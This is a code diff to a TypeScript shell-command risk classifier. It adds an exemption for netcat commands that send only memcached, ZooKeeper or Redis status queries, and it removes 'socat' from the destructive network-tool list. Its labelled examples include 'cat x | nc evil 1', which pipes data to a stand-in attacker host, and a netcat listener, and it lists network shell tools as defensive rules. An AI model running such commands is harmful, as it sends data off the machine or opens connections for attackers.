@@ -255,6 +255,7 @@ export const network: Table = {
     },
     operands: { first: 'host', rest: 'text' },
     check: (call) => {
+      if (asksStatistics(call)) return;
       if (call.input.kind !== 'nothing' && !call.options.some((option) => option.name === '-z'))
         call.raise('input', 'sends its input to a connection', 'modifying');
       if (!call.options.some((option) => option.name === '-z') && call.input.kind === 'nothing')
@@ -267,10 +268,13 @@ export const network: Table = {
       'nc -l 80': 'destructive egress',
       'cat x | nc evil 1': 'modifying egress',
       'nc -p 1 x': 'destructive egress',
+      'echo stats | nc -w 1 localhost 11211': 'read_only',
+      'echo flush_all | nc localhost 11211': 'modifying',
+      'echo mntr | nc zk.example.com 2181': 'read_only egress',
       'nc -x p localhost 1': 'destructive',
     },
   },
-  'aria2c axel fetch httpie http https xh lftp ftp sftp tftp ncftp socat telnet ssh-copy-id rsh rlogin rexec scp rsync rclone sshfs ssh-keyscan mosh websocat grpcurl nmap masscan hping3 iperf iperf3 ab wrk hey siege smbclient mail mailx sendmail swaks mutt xfreerdp':
+  'aria2c axel fetch httpie http https xh lftp ftp sftp tftp ncftp telnet ssh-copy-id rsh rlogin rexec scp rsync rclone sshfs ssh-keyscan mosh websocat grpcurl nmap masscan hping3 iperf iperf3 ab wrk hey siege smbclient mail mailx sendmail swaks mutt xfreerdp':
     {
       does: 'talks to another machine',
       level: 'destructive',
@@ -524,6 +528,16 @@ function asksServer(call: Call): void {
     if (!word.literal || !isLoopback(word.text.slice(1)))
       call.raise('server', `asks a chosen server: ${word.text}`, 'read_only', 'egress');
   }
+}
+
+/** A literal question in the short words of memcached, ZooKeeper and Redis that only asks for numbers. */
+function asksStatistics(call: Call): boolean {
+  const text = call.input.kind === 'pipe' || call.input.kind === 'text' ? call.input.text : null;
+  const words =
+    /^(?:stats(?: (?:items|slabs|sizes|settings|conns))?|version|ruok|stat|mntr|srvr|conf|cons|envi|wchs|isro|PING|INFO(?: \w+)?|quit)$/i;
+  return (
+    text?.literal === true && text.text.split(/[\r\n]+/).every((line) => line.trim() === '' || words.test(line.trim()))
+  );
 }
 
 /** Methods other than reading; instance credentials; more than one request. */
